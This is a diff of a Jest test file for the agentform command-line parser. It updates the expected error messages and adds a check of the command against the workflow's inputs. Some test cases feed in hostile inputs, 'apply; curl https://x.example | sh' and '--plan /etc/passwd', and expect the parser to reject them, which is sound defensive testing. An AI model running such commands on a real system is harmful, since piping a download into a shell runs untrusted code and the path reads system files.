@@ -1,8 +1,8 @@
 import { describe, expect, test } from '@jest/globals';
 import fc from 'fast-check';
 import { commandNames, parseCommandLine } from '../../src/action/command-line.ts';
-import { planOptions } from '../../src/commands/plan/command.ts';
-import { publishOptions } from '../../src/commands/publish/command.ts';
+import { planSyntax } from '../../src/commands/plan/command.ts';
+import { publishSyntax } from '../../src/commands/publish/command.ts';
 import { AgentformError } from '../../src/errors.ts';
 import { shellWord } from '../../src/text/wording.ts';
 import { hostileText } from '../report/hostile-text.ts';
@@ -122,7 +122,6 @@ describe('the input command', () => {
     expect(parseCommandLine('apply --no-publish --allow-older=false')).toMatchObject({ publish: false, decisions: [] });
     expect(parseCommandLine('apply --new a,b').decisions).toMatchObject([{ names: ['a', 'b'] }]);
     expect(parseCommandLine('apply --new a --new b').decisions).toMatchObject([{ names: ['a', 'b'] }]);
-    expect(parseCommandLine('plan -- -odd')).toMatchObject({ words: ['-odd'] });
     expect(parseCommandLine('update 007 1e3').words).toEqual(['007', '1e3']);
   });
 
@@ -148,6 +147,20 @@ describe('the input command', () => {
     expect(() => parseCommandLine('record rename -e old new', inputOf)).toThrow('the input command says "new"');
   });
 
+  test('The input command is checked together with the inputs of the workflow.', () => {
+    const given: Readonly<Record<string, string>> = { plan: 'plan.json', 'changed-since': 'v1' };
+    const inputOf = (name: string) => given[name] ?? '';
+    expect(() => parseCommandLine('apply', inputOf)).toThrow(
+      '": the input plan cannot be combined with the input changed-since; use --changed-since when you make the plan',
+    );
+    const planOf = (name: string) => (name === 'plan' ? 'plan.json' : '');
+    expect(parseCommandLine('apply', planOf)).toMatchObject({ plan: 'plan.json' });
+    expect(() => parseCommandLine('apply --changed-since v1', planOf)).toThrow(
+      '": the input plan cannot be combined with --changed-since;',
+    );
+    expect(() => parseCommandLine("apply -e 'prod-*'", planOf)).toThrow('--plan accepts the name of one environment');
+  });
+
   test('The input command ignores the environment variables of the process.', () => {
     process.env.AGENTFORM_ENVIRONMENT = 'production';
     try {
@@ -158,10 +171,10 @@ describe('the input command', () => {
   });
 
   test('The command line reads its default environment from the variables when it is parsed.', () => {
-    expect(planOptions().environment.default).toBeUndefined();
+    expect(planSyntax.options().environment.default).toBeUndefined();
     process.env.AGENTFORM_ENVIRONMENT = 'production';
     try {
-      expect([planOptions(), publishOptions()].map(({ environment }) => environment.default)).toEqual([
+      expect([planSyntax.options(), publishSyntax.options()].map(({ environment }) => environment.default)).toEqual([
         'production',
         'production',
       ]);
@@ -187,31 +200,40 @@ describe('the input command', () => {
 
   test.each([
     ['apply; curl https://x.example | sh', 'which is not supported here; expected plan, validate, apply'],
+    ['apply --plan /etc/passwd', '": --plan is valid only as an input of the workflow'],
     [
-      'apply --plan /etc/passwd',
-      'which has an option that is not supported; apply accepts --environment, --selector, --exclude, --changed-since, --allow-older',
+      'apply --format json',
+      '": in the action, apply has no option --format; the options are --environment, --selector, --exclude, --changed-since, --allow-older',
     ],
-    ['apply --overwrite', 'which has an option that is not supported'],
-    ['update web --to a --to b', 'which has --to more than once'],
-    ['apply --allow-creates many', 'which is refused: --allow-creates must be an integer of at least 0, not "many"'],
-    ['update web --ours --theirs', 'which has both --ours and --theirs; choose one'],
+    ['apply --alow-older', 'has no option --alow-older; did you mean --allow-older? The options are --environment'],
+    ['apply --overwrite', '": --overwrite needs a value; the options are --environment'],
+    ['apply --publish=maybe', '": --publish accepts true, false or no value, not "maybe"'],
+    ['apply -- web', '": omit --, because no name begins with a dash; write names before the options'],
+    ['update web --to a --to b', '": --to was given more than once'],
+    ['apply --allow-creates many', '": --allow-creates must be an integer of at least 0, not "many"'],
+    ['update web --ours --theirs', '": --ours cannot be combined with --theirs; use one of them'],
+    ['plan -e staging,production', '--environment accepts the name of one environment'],
+    ['hold front-desk', '": in the action, hold needs --reason'],
     ['record', 'which is not supported here'],
     ['record move --to file', 'which is not supported here'],
+    ['record adopt', '": in the action, record adopt needs ADDRESS [ID]'],
     ['record adopt Agent/front-desk ID', 'which has ID in it; put the value in its place'],
-    ['record forget Agent/a Agent/b', 'which has the wrong arguments; write `record forget Kind/name`'],
-    ['record rename Agent/a', 'which has the wrong arguments; write `record rename Kind/old Kind/new`'],
+    [
+      'record forget Agent/a Agent/b',
+      '": in the action, record forget does not accept the argument "Agent/b"; the options are --environment, --yes',
+    ],
+    ['record rename Agent/a', '": name the old and the new Kind/name; to rename an environment, run `agentform record'],
     ['record rename --environment OLD NEW', 'which has NEW in it; put the value in its place'],
-    ['record forget', 'write `record forget Kind/name`, or `record forget --environment OLD`'],
-    ['update', 'which has the wrong arguments; write `update NAME`, with at least one name'],
+    [
+      'record forget',
+      '": name the resource as Kind/name, such as Agent/front-desk; to forget an environment, run `agentform record forget',
+    ],
     ['update front-desk --field PATH', 'which has PATH in it; put the value in its place'],
     [
       'update front-desk --dry-run',
-      'has an option that is not supported; update accepts --environment, --selector, --exclude, --field, --yes',
+      'has no option --dry-run; `agentform plan` shows what an apply would change; the options are --environment, --selector, --exclude, --field, --yes',
     ],
-    [
-      'import camp_1 camp_2 --name a',
-      "write `import AGENT_ID --name NAME --description 'TEXT'` with quotes around several words",
-    ],
+    ['import camp_1 camp_2 --name a', '": in the action, import does not accept the argument "camp_2"'],
     ['import AGENT_ID --name front-desk', 'which has AGENT_ID in it; put the value in its place'],
     ['import camp_1 --name a --description TEXT', 'which has TEXT in it; put the value in its place'],
     ['toString', 'which is not supported here'],
